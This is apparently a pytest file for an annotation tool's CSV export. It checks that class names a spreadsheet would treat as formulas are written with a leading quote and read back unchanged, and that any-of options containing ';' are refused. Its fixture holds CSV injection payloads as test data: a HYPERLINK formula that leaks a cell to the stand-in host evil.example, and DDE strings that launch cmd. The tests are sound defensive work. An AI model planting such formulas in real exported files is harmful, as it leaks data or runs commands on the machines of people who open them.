"""CSV cells a spreadsheet cannot run and a reader splits one way (issue 22, item 12).

Text cells that a spreadsheet would take for a formula (starting with = + - @, a tab or a
carriage return) are written with a leading single quote, as OWASP's CSV injection guidance
says; numbers stay numbers; the project's own reader of its CSVs gives back the text as it was.
An any-of value is its options joined with '; ', so an option name holding ';' is refused
where the ontology is defined or loaded."""

import csv

import numpy as np
import pytest

from napari_samlabel.core import Annotation, Ontology
from napari_samlabel.core.ontology import OntologyError
from napari_samlabel.io.exporting import export
from napari_samlabel.io.importing import read_class_table
from napari_samlabel.io.instances_csv import write_class_table
from napari_samlabel.io.writing import csv_cell, csv_cell_text
from napari_samlabel.synthetic import disc

SHAPE = (24, 24)
# class names a spreadsheet would run, each with the cell it must become
FORMULAS = {
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")': '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd": "'-2+3+cmd",
    "@SUM(1+1)*cmd": "'@SUM(1+1)*cmd",
}  # a class name starting with a tab or a line break is stripped: see test_every_text_comes_back


def rows_of(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.DictReader(f))


@pytest.fixture
def ann():
    classes = [{"name": name, "color": f"#{k + 1:02x}8844", "attributes": [
        {"name": "note", "type": "text"}, {"name": "size", "type": "number"}]} for k, name in enumerate(FORMULAS)]  # fmt: skip
    a = Annotation(np.zeros((1, *SHAPE), np.uint32), Ontology.from_dict({"classes": classes}), frame_axis=0)
    for k, name in enumerate(FORMULAS):
        inst = a.new_instance(name)
        with a.action():
            a.write_mask(disc(SHAPE, 4 + 3 * k, 12, 1), inst.id, (0,), "overwrite")
        a.set_attribute(inst.id, "note", "=1+2")
        a.set_attribute(inst.id, "size", -3.5)
    return a


def test_the_instances_csv_quotes_formulas_and_keeps_numbers(ann, tmp_path):
    out = export("csv", tmp_path / "instances.csv", ann.store.data, ann.ontology, ann.table, 0)
    rows = rows_of(out)
    assert [r["class"] for r in rows] == list(FORMULAS.values())
    assert all(r["name"].startswith("'") for r in rows)  # "=HYPERLINK(... (1)": the class's name
    assert {r["attr:note"] for r in rows} == {"'=1+2"}
    assert {r["attr:size"] for r in rows} == {"-3.5"}  # a number, still a number
    assert {r["confidence"] for r in rows} == {"1.0"}


def test_the_instances_csv_reads_back_as_it_was(ann, tmp_path):
    """`samlabel export --instances` and the import read the quoted cells back as the names."""
    out = export("csv", tmp_path / "instances.csv", ann.store.data, ann.ontology, ann.table, 0)
    assert {i: rec["class"] for i, rec in read_class_table(out).items()} == {r.id: r.class_name for r in ann.table}


def test_the_class_tables_quote_formulas(ann, tmp_path):
    """The class table `samlabel segment` writes beside its labels and the semantic mask's."""
    table = write_class_table(tmp_path / "labels.instances.csv", {1: "=1+2", 2: "cell"})
    assert [r["class"] for r in rows_of(table)] == ["'=1+2", "cell"]
    assert {i: rec["class"] for i, rec in read_class_table(table).items()} == {1: "=1+2", 2: "cell"}
    export("semantic", tmp_path / "semantic.tif", ann.store.data, ann.ontology, ann.table, 0)
    assert [r["name"] for r in rows_of(tmp_path / "semantic_classes.csv")][1:] == list(FORMULAS.values())


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'", "''", "'a", "a'", "-", "-3.5 (0-2), 2 (3)", "", "@",
                                  "\t=1", "\r=1", "x=1"])  # fmt: skip
def test_every_text_comes_back(text):
    cell = csv_cell(text)
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and csv_cell_text(cell) == text


@pytest.mark.parametrize("value", [-3.5, -3, "-3.5", "+2", "-1e-3", ".5"])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) == value


# -- any-of options and the '; ' that joins them ------------------------------------------------
def test_an_any_of_option_holding_the_separator_is_refused_in_a_class():
    with pytest.raises(OntologyError) as e:
        Ontology.from_dict({"classes": [{"name": "cell", "attributes": [
            {"name": "flags", "type": "any-of", "options": ["blurred", "a; b"]}]}]})  # fmt: skip
    said = str(e.value)
    assert "\n" not in said and "'cell'" in said and "'flags'" in said and "'a; b'" in said and "';'" in said


def test_an_any_of_option_holding_the_separator_is_refused_in_a_classification():
    with pytest.raises(OntologyError) as e:
        Ontology.from_dict({"classes": [{"name": "cell"}], "classifications": [
            {"name": "quality", "type": "any-of", "options": ["good;bad"]}]})  # fmt: skip
    said = str(e.value)
    assert "\n" not in said and "'quality'" in said and "'good;bad'" in said


def test_an_any_of_option_holding_the_separator_is_refused_from_the_dock(classes):
    """The Classes dock changes attributes through Ontology.update: the same refusal, nothing changed."""
    before = classes.to_dict()
    with pytest.raises(OntologyError, match="'a; b'"):
        classes.update("cell", attributes=[{"name": "flags", "type": "any-of", "options": ["a; b"]}])
    assert classes.to_dict() == before


def test_a_one_of_option_may_hold_a_semicolon():
    """One option per value: nothing is joined, nothing to split."""
    onto = Ontology.from_dict({"classes": [{"name": "cell", "attributes": [
        {"name": "stage", "type": "one-of", "options": ["G1; early", "M"]}]}]})  # fmt: skip
    assert onto["cell"].attributes[0].options == ("G1; early", "M")


def test_the_ontology_file_is_named(tmp_path):
    path = tmp_path / "ontology.json"
    path.write_text('{"classes": [{"name": "cell", "attributes": [{"name": "flags", "type": "any-of", '
                    '"options": ["a;b"]}]}]}')  # fmt: skip
    with pytest.raises(OntologyError) as e:
        Ontology.load(path)
    assert str(e.value).startswith(str(path)) and "'a;b'" in str(e.value)
